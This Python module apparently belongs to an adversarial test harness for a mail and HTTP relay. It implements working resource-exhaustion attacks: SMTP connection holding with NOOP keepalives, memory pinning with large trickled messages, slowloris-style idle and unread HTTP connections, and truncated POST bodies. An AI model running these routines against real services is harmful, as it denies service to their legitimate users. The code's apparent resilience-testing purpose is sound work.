"""Attacks that hold what there is little of: connections, and memory."""

from __future__ import annotations

import contextlib
import select
import socket
import time

from hostile.attack import Outcome, Target
from hostile.network import client
from hostile.wire import Refused, Smtp, connect, paced

MIB = 1024 * 1024
SMTP_CLIENTS, SMTP_EACH = 40, 18
HTTP_IDLE, HTTP_UNREAD = 2600, 1600
# Messages of one address, in KiB: the large ones take most of the memory, the small ones what is left.
MESSAGES = [18 * 1024] * 7 + [1024] * 3 + [64] * 8


def smtp_connections(target: Target) -> Outcome:
    """Connections that say NOOP now and then, from many addresses; what is closed is opened again."""
    held: dict[int, list[socket.socket]] = {network: [] for network in range(SMTP_CLIENTS)}
    most = opened = 0
    for turn in paced(target.until, 1.0):
        for network, connections in held.items():
            for connection in list(connections):
                if not is_open(connection):
                    connections.remove(connection)
            # Not all at once: a burst of connections costs the one who opens them the most.
            for _ in range(min(6, SMTP_EACH - len(connections))):
                with contextlib.suppress(OSError):
                    connection = connect(target.smtp, f"10.103.{network}.1", 1.0)
                    connection.sendall(b"EHLO a.example\r\n")
                    connection.setblocking(False)
                    connections.append(connection)
                    opened += 1
            if turn % 4 == 3:
                for connection in connections:
                    with contextlib.suppress(OSError):
                        connection.send(b"NOOP\r\n")
        most = max(most, sum(map(len, held.values())))
    faults = [] if most else ["none was held, so nothing was attacked"]
    return Outcome(faults, f"{most} held at once, {opened} opened")


def is_open(connection: socket.socket) -> bool:
    """Takes what was said; a refusal is said and closed."""
    try:
        while said := connection.recv(4096):
            if said.startswith(b"421"):
                break
        connection.close()
        return False
    except BlockingIOError:
        return True
    except OSError:
        connection.close()
        return False


def message_memory(target: Target) -> Outcome:
    """One address sends most of some large messages, and from then on a few bytes now and then."""
    sessions: dict[int, Smtp] = {}
    recipients = ("postmaster@" + target.shared.split("@")[1], target.shared, target.mallory.relay_address)
    refused = 0
    block = b"x" * 1022 + b"\r\n"
    for _ in paced(target.until, 0.5):
        # The first turn opens them all, later ones what was closed.
        for number in range(len(MESSAGES)):
            if number in sessions or time.monotonic() > target.until:
                continue
            try:
                session = sessions[number] = Smtp(target.smtp, "10.104.0.1", 3.0)
                session.start(recipients[number % 3])
                session.socket.sendall(b"Subject: large\r\n\r\n")
                for _ in range(MESSAGES[number] // 64):
                    session.socket.sendall(block * 64)
            except (OSError, Refused):
                refused += 1
                if number in sessions:
                    sessions.pop(number).close()
        for number, session in list(sessions.items()):
            try:
                session.socket.sendall(b"trickle")
            except OSError:
                sessions.pop(number).close()
    return Outcome([], f"{len(sessions)} held at the end, {refused} refused")


def http_connections(target: Target) -> Outcome:
    """Idle connections of one address, and those of another that ask for much and read nothing."""
    question = b"GET /openapi.json HTTP/1.1\r\nHost: relay\r\n\r\n" * 100
    held, failed = [], 0
    for number in range(HTTP_IDLE + HTTP_UNREAD):
        if time.monotonic() > target.until or failed > 100:
            break
        try:
            connection = socket.socket()
            # A small window: what is not read stays with the relay, not in the kernel.
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            connection.settimeout(0.5)
            is_idle = number % (HTTP_IDLE + HTTP_UNREAD) < HTTP_IDLE
            connection.bind((client("10.105.0.1" if is_idle else "10.106.0.1"), 0))
            host, port = target.http.rsplit(":", 1)
            connection.connect((host, int(port)))
            held.append(connection)
            if not is_idle:
                connection.send(question)
        except OSError:
            failed += 1
    time.sleep(max(0.0, target.until - time.monotonic()))
    closed = sum(1 for connection in held if was_closed(connection))
    faults = [] if held else ["none was opened, so nothing was attacked"]
    return Outcome(faults, f"{len(held)} opened, {closed} of them closed by the relay")


def was_closed(connection: socket.socket) -> bool:
    poller = select.poll()
    poller.register(connection, select.POLLRDHUP | select.POLLHUP | select.POLLERR)
    return bool(poller.poll(0))


def unfinished_bodies(target: Target) -> Outcome:
    """Mails handed in with one token, each short of its last bytes; and bodies with a token that is none."""
    size = 6 * MIB - 4096
    made_up = "arelay_" + "a" * 58
    requests = [(f"/mail?token={target.mallory.token}", "message/rfc822", size, 100)]
    requests += [(f"/prepare-arlo-mfa/{made_up}", "application/json", 63 * 1024, 500)]
    held: list[socket.socket] = []
    line = b"x" * 1022 + b"\r\n"
    for path, content_type, length, count in requests:
        for _ in range(count):
            if time.monotonic() > target.until:
                break
            with contextlib.suppress(OSError):
                connection = connect(target.http, "10.107.0.1", 2.0)
                head = f"POST {path} HTTP/1.1\r\nHost: relay\r\nContent-Type: {content_type}\r\n"
                head += f"Content-Length: {length}\r\n\r\n"
                connection.sendall(head.encode())
                held.append(connection)
                for _ in range(length // len(line) // 16 - 1):
                    connection.sendall(line * 16)
    time.sleep(max(0.0, target.until - time.monotonic()))
    answered = sum(1 for connection in held if was_answered(connection))
    return Outcome([], f"{len(held)} opened, {answered} of them answered before their end")


def was_answered(connection: socket.socket) -> bool:
    connection.setblocking(False)
    try:
        connection.recv(1)
        return True
    except BlockingIOError:
        return False
    except OSError:
        return True
